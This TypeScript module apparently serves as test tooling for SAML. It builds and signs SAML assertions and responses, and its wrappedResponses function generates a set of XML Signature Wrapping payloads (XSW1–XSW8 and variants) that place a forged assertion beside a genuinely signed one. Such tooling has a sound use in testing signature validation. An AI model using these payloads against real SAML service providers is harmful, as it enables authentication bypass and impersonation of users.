import { randomBytes } from 'node:crypto';
import { SignedXml } from 'xml-crypto';

/** What a response says; each field can be a lie. */
export interface ResponseTerms {
  requestId: string;
  acsUrl: string;
  audience: string;
  issuer: string;
  nameId: string;
  nameIdFormat: string;
  email: string;
  attributes: string;
  assertionId: string;
  responseId: string;
  status: string;
  issuedAt: number;
  notBefore: number;
  notOnOrAfter: number;
}

export interface SigningTerms {
  signature?: string;
  digest?: string;
  transforms?: string[];
}

const C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const NAMESPACES =
  'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"';

export const newXmlId = (): string => `_${randomBytes(16).toString('hex')}`;
const at = (time: number): string => new Date(time).toISOString();

export function attributeXml(name: string, ...values: string[]): string {
  const content = values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join('');
  return `<saml:Attribute Name="${name}">${content}</saml:Attribute>`;
}

export function assertionXml(terms: ResponseTerms): string {
  const { issuer, nameId, nameIdFormat, requestId, acsUrl, audience } = terms;
  return `<saml:Assertion ${NAMESPACES} Version="2.0" ID="${terms.assertionId}" IssueInstant="${at(terms.issuedAt)}"><saml:Issuer>${issuer}</saml:Issuer><saml:Subject><saml:NameID Format="${nameIdFormat}">${nameId}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData Recipient="${acsUrl}" InResponseTo="${requestId}" NotOnOrAfter="${at(terms.notOnOrAfter)}"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${at(terms.notBefore)}" NotOnOrAfter="${at(terms.notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${at(terms.issuedAt)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement>${terms.email && attributeXml('email', terms.email)}${terms.attributes}</saml:AttributeStatement></saml:Assertion>`;
}

export function responseXml(terms: ResponseTerms, content: string): string {
  const { responseId, requestId, acsUrl, issuer, status } = terms;
  return `<samlp:Response ${NAMESPACES} Version="2.0" ID="${responseId}" InResponseTo="${requestId}" Destination="${acsUrl}" IssueInstant="${at(terms.issuedAt)}"><saml:Issuer>${issuer}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${status}"/></samlp:Status>${content}</samlp:Response>`;
}

/** Signs the outermost element of that name, by xml-crypto. */
export function signed(
  xml: string,
  element: 'Assertion' | 'Response',
  key: string,
  { signature, digest, transforms }: SigningTerms = {},
): string {
  const place = `(//*[local-name(.)='${element}'])[1]`;
  const signing = new SignedXml({
    privateKey: key,
    signatureAlgorithm: signature ?? 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: C14N,
  });
  signing.addReference({
    xpath: place,
    transforms: transforms ?? ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', C14N],
    digestAlgorithm: digest ?? 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signing.computeSignature(xml, {
    location: { reference: `${place}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signing.getSignedXml();
}

const SIGNATURE = /<Signature\b.*?<\/Signature>/s;
export const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? '';
export const withoutSignature = (xml: string): string => xml.replace(SIGNATURE, '');

/** Signature wrapping (Somorovsky and others, 2012): a genuine signed assertion, and another that says what the attacker likes. */
export function wrappedResponses(
  terms: ResponseTerms,
  evil: Partial<ResponseTerms>,
  key: string,
): Record<string, string> {
  const genuine = signed(assertionXml(terms), 'Assertion', key);
  const bare = withoutSignature(genuine);
  const signature = signatureIn(genuine);
  const lie = assertionXml({ ...terms, ...evil, assertionId: '_evil' });
  const sameId = assertionXml({ ...terms, ...evil });
  const whole = signed(responseXml(terms, genuine), 'Response', key);
  const evilResponse = { ...terms, ...evil, responseId: '_evil' };
  const wholeSignature = signatureIn(whole);
  const original = whole.replace(wholeSignature, '');
  const inside = (outer: string, element: string, inner: string): string =>
    outer.replace(new RegExp(`</${element}>(?![\\s\\S]*</${element}>)`), `${inner}</${element}>`);
  const after = (xml: string, inner: string): string => xml.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);
  return {
    'XSW1: the original response in the signature': responseXml(
      evilResponse,
      inside(wholeSignature, 'Signature', `<Object>${original}</Object>`) + lie,
    ),
    'XSW2: the original response before a detached signature': responseXml(
      evilResponse,
      original + wholeSignature + lie,
    ),
    'XSW3: a second assertion before the signed one': responseXml(terms, lie + genuine),
    'a second assertion after the signed one': responseXml(terms, genuine + lie),
    'XSW4: the signed assertion within another': responseXml(terms, inside(lie, 'saml:Assertion', genuine)),
    'XSW5: the signature in another, the original after it': responseXml(terms, after(lie, signature) + bare),
    'XSW6: the original in the signature of another': responseXml(
      terms,
      after(lie, inside(signature, 'Signature', bare)),
    ),
    'XSW7: another of the same id in extensions': responseXml(
      terms,
      `<samlp:Extensions>${sameId}</samlp:Extensions>${genuine}`,
    ),
    'XSW8: the original as an object of the signature of another': responseXml(
      terms,
      after(sameId, inside(signature, 'Signature', `<Object>${bare}</Object>`)),
    ),
    'another assertion with the signature of the original': responseXml(terms, after(sameId, signature)),
  };
}
